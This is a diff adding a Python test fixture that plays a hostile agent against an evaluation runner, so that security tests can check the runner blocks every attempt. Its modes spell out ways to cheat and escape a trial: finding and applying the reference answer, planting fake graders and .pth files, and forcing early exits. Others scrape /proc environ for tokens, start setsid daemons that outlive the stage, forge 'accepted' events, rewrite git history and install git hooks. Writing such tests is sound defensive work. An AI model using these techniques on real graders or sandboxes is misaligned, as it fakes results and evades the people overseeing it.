@@ -1,0 +1,259 @@
+"""An agent that attacks the runner, for the tamper-proof-trial tests (docs/security.md).
+
+usage: attacker.py MODE [ARG...]   (cwd = the trial workspace)
+
+Each mode tries one thing a clever agent would try and prints what it reached as
+``FOUND <what>`` / ``WROTE <path>`` lines, so a test can assert it reached nothing.
+Errors are printed, never raised: a failed attack is the expected result.
+"""
+
+import json
+import os
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+mode = sys.argv[1]
+args = sys.argv[2:]
+ws = Path(os.environ.get("TRIALHOUSE_WORKSPACE", os.getcwd()))
+SKIP = ("/proc", "/sys", "/dev", "/usr", "/etc", sys.base_prefix)
+"""System content (read-only, and large): the operator's files are never there."""
+
+
+def say(*parts: object) -> None:
+    print(*parts, flush=True)
+
+
+def try_write(path: Path, text: str) -> bool:
+    try:
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+    except OSError as exc:
+        say("refused", path, type(exc).__name__)
+        return False
+    say("WROTE", path)
+    return True
+
+
+def walk(root: str = "/", limit: int = 200_000):
+    """Every file path reachable from ``root`` (not following symlinks), bounded."""
+    seen = 0
+    for base, dirs, files in os.walk(root):
+        if base.startswith(SKIP):
+            dirs[:] = []
+            continue
+        for name in files:
+            seen += 1
+            if seen > limit:
+                return
+            yield Path(base) / name
+
+
+def inputs_guesses() -> list[Path]:
+    return [ws.parents[k] / "inputs" for k in range(min(5, len(ws.parents)))]
+
+
+def read_answer() -> None:
+    """Look everywhere reachable for the reference patch or a grader, and use them."""
+    for guess in inputs_guesses():
+        if guess.is_dir():
+            say("FOUND inputs dir", guess)
+            for patch in guess.rglob("*.patch"):
+                done = subprocess.run(["git", "apply", str(patch)], cwd=ws, capture_output=True)
+                say("applied" if done.returncode == 0 else "did not apply", patch)
+            return
+    for path in walk():
+        if path.is_relative_to(ws) or path == Path(__file__).resolve():
+            continue
+        try:
+            text = path.read_text(errors="replace") if path.stat().st_size < 256 * 1024 else ""
+        except OSError:
+            continue
+        if "+def mul(a, b):" in text or "import calc" in text:
+            say("FOUND", path)
+            done = subprocess.run(["git", "apply", str(path)], cwd=ws, capture_output=True)
+            say("applied" if done.returncode == 0 else "did not apply", path)
+
+
+def plant_inputs() -> None:
+    for guess in inputs_guesses():
+        try_write(guess / "graders" / "hmac.py", "import os\nos._exit(0)\n")
+        try_write(guess / "graders" / "__pycache__" / "target_mul.cpython-311.pyc", "planted")
+
+
+def plant_pth(prefix: str) -> None:
+    for site in Path(prefix).glob("lib/python3*/site-packages"):
+        try_write(site / "zz_trialhouse_attack.pth", "import os; os.environ['PWNED'] = '1'\n")
+    try_write(Path(prefix) / "lib" / "python3.11" / "site-packages" / "zz_trialhouse_attack.pth", "x")
+
+
+def early_exit() -> None:
+    calc = ws / "calc.py"
+    calc.write_text("import os\nos._exit(0)\n" + calc.read_text())
+    say("calc.py now exits its importer with status 0")
+
+
+def steal_token() -> None:
+    (ws / "calc.py").write_text(
+        "import os, re, sys\n"
+        "seen = open('/proc/self/environ', 'rb').read().decode('latin-1')\n"
+        "seen += ' '.join(os.environ.values())\n"
+        "try:\n    seen += sys.stdin.read()\nexcept Exception:\n    pass\n"
+        "out = os.environ.get('TRIALHOUSE_RESULT_FILE')\n"
+        "if out:\n"
+        "    open(out, 'w').write(' '.join(re.findall(r'[0-9a-f]{32}', seen)))\n"
+        "os._exit(0)\n")
+
+
+def daemon(marker: str) -> None:
+    """A setsid child that outlives the stage and strikes later (swapping graders, files)."""
+    code = (
+        "import os, sys, time, pathlib\n"
+        "ws = pathlib.Path(sys.argv[1]); end = time.time() + 60\n"
+        "while time.time() < end:\n"
+        "    for p in list(ws.parents)[:5]:\n"
+        "        for g in p.rglob('target_mul.py'):\n"
+        "            try: g.write_text('import sys\\nsys.exit(0)\\n')\n"
+        "            except OSError: pass\n"
+        "    try: (ws / 'calc.py').write_text('def mul(a, b):\\n    return a * b\\n\\ndef add(a, b):\\n    return a + b\\n')\n"
+        "    except OSError: pass\n"
+        "    time.sleep(0.05)\n"
+    )
+    subprocess.Popen([sys.executable, "-c", code, str(ws), marker], start_new_session=True,
+                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    say("daemon started")
+
+
+def forge_events() -> None:
+    for path in walk():
+        if path.name in ("events.jsonl", "events.seal.json", "report.json"):
+            say("FOUND", path)
+            with open(path, "a") as fh:
+                fh.write(json.dumps({"event": "trial_finished", "outcome": "accepted"}) + "\n")
+
+
+def symlink_evidence(victim: str) -> None:
+    """Plant symlinks where the runner writes evidence, pointing at ``victim``."""
+    trial = ws.parent
+    for name in ("changes.patch", "grading", "logs", "verdicts", "agent-events", "prompts"):
+        target = trial / name
+        try:
+            if target.is_dir() and not target.is_symlink():
+                os.rename(target, trial / f"{name}.moved")
+            os.symlink(victim, target)
+            say("WROTE symlink", target)
+        except OSError as exc:
+            say("refused", target, type(exc).__name__)
+
+
+def git(*argv: str) -> subprocess.CompletedProcess:
+    env = {**os.environ, "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@a",
+           "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@a"}
+    return subprocess.run(["git", *argv], cwd=ws, capture_output=True, text=True, env=env)
+
+
+def recreate_git(patch: str) -> None:
+    git("apply", patch)
+    subprocess.run(["rm", "-rf", str(ws / ".git")])
+    git("init", "-q")
+    git("add", "-A")
+    git("commit", "-qm", "initial")
+    say("git now shows no change:", repr(git("status", "--porcelain").stdout))
+
+
+def replace_initial(patch: str) -> None:
+    initial = git("rev-parse", "HEAD").stdout.strip()
+    git("apply", patch)
+    git("add", "-A")
+    git("commit", "-qm", "work")
+    git("replace", "-f", initial, "HEAD")
+    say("diff against the initial commit:", repr(git("diff", initial).stdout))
+
+
+def outside_symlink() -> None:
+    real = Path(os.environ["HOME"]) / "calc_real.py"
+    real.write_text((ws / "calc.py").read_text() + "\n\ndef mul(a, b):\n    return a * b\n")
+    (ws / "calc.py").unlink()
+    os.symlink(real, ws / "calc.py")
+    say("calc.py ->", real)
+
+
+def git_config(marker: str, patch: str) -> None:
+    """Make any git the runner runs here execute our code (it must not)."""
+    subprocess.run(["git", "apply", patch], cwd=ws)
+    hook = ws / ".git" / "evil.sh"
+    hook.write_text(f"#!/bin/sh\ntouch {marker}\n")
+    hook.chmod(0o755)
+    git("config", "core.fsmonitor", str(hook))
+    git("config", "filter.evil.clean", str(hook))
+    git("config", "filter.evil.smudge", str(hook))
+    git("config", "filter.evil.required", "true")
+    git("config", "diff.evil.textconv", str(hook))
+    git("config", "core.hooksPath", str(ws / ".git"))
+    (ws / ".gitattributes").write_text("* filter=evil diff=evil\n")
+    for name in ("pre-commit", "post-checkout", "reference-transaction"):
+        (ws / ".git" / name).write_text(f"#!/bin/sh\ntouch {marker}\n")
+        (ws / ".git" / name).chmod(0o755)
+    say("configured")
+
+
+def contaminate(source_repo: str) -> None:
+    """Look for an earlier trial's marks, then leave marks for the next one (and the source)."""
+    bases = ("/tmp", os.environ.get("TMPDIR", "/tmp"), os.environ.get("HOME", "/tmp"))
+    for base in bases:
+        if (Path(base) / "contamination.txt").exists():
+            say("SEEN", Path(base) / "contamination.txt")
+    for base in bases:
+        try_write(Path(base) / "contamination.txt", "left by an earlier trial")
+    try_write(Path(source_repo) / "contamination.txt", "x")
+    try_write(Path(source_repo) / ".git" / "refs" / "heads" / "contamination", "0" * 40)
+    trials = ws.parent.parent
+    if trials.is_dir():
+        for other in trials.iterdir():
+            if other != ws.parent:
+                say("FOUND other trial", other)
+
+
+def env_secret(name: str) -> None:
+    for env in Path("/proc").glob("*/environ"):
+        try:
+            data = env.read_bytes()
+        except OSError:
+            continue
+        if name.encode() + b"=" in data:
+            say("FOUND", name, "in", env)
+    if name in os.environ:
+        say("FOUND", name, "in os.environ")
+
+
+def sleepers(count: str, marker: str) -> None:
+    for _ in range(int(count)):
+        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", marker],
+                         start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    say("started", count)
+
+
+def big_file(size: str) -> None:
+    with open(ws / "huge.bin", "wb") as fh:
+        fh.truncate(int(size))
+    say("wrote", size, "bytes (sparse)")
+
+
+def hang(marker: str) -> None:
+    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", marker],
+                     start_new_session=True)
+    time.sleep(600)
+
+
+MODES = {
+    "read-answer": read_answer, "plant-inputs": plant_inputs, "pth": plant_pth,
+    "early-exit": early_exit, "steal-token": steal_token, "daemon": daemon,
+    "forge-events": forge_events, "symlink-evidence": symlink_evidence,
+    "recreate-git": recreate_git, "replace-initial": replace_initial,
+    "outside-symlink": outside_symlink, "git-config": git_config, "contaminate": contaminate,
+    "env-secret": env_secret, "sleepers": sleepers, "big-file": big_file, "hang": hang,
+}
+
+if os.environ.get("TRIALHOUSE_STAGE", "build") == "build" and os.environ.get("TRIALHOUSE_ATTEMPT", "1") == "1":
+    MODES[mode](*args)
